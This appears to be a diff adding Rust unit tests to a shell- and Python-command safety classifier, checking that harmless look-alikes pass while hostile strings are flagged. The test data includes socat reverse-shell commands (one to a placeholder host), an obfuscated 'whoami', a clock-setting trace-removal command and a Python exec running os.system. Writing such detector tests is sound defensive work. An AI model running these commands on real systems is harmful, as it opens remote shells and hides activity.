@@ -87,3 +87,37 @@ fn slips_are_found() {
     );
     is_unsafe("bash", "date 010203042024", "trace-removal");
 }
+
+#[test]
+fn what_only_looks_hidden_or_sent_is_left_alone() {
+    all_safe(
+        "bash",
+        &[
+            "INFO() { echo \"$1\"; }\nINFO 'add it to ~/.bashrc'",
+            "openssl req -x509 -nodes -out cert.pem -keyout /etc/ssl/private/own.key",
+            "awk '/connect|socket/ { n++ } /exec/ { m++ } END { print n, m }' trace.log",
+            "socat readline,history=.h exec:./console,pty",
+            "waittcp4port() { :; }\nwait$(proto)port 80",
+        ],
+    );
+    is_unsafe(
+        "bash",
+        "socat tcp:h.example:1 exec:./console",
+        "reverse-shell",
+    );
+    is_unsafe("bash", "socat - exec:/bin/sh,pty", "reverse-shell");
+    is_unsafe("bash", "who$(nothing)ami", "obfuscated-command");
+}
+
+#[test]
+fn the_old_exec_statement_is_left_alone() {
+    all_safe(
+        "python",
+        &["def run(code, space):\n    exec(\"\"\"exec code in space, space\"\"\")\n"],
+    );
+    is_unsafe(
+        "python",
+        "exec('import os; os.system(\"id\")')\n",
+        "code-dynamic",
+    );
+}
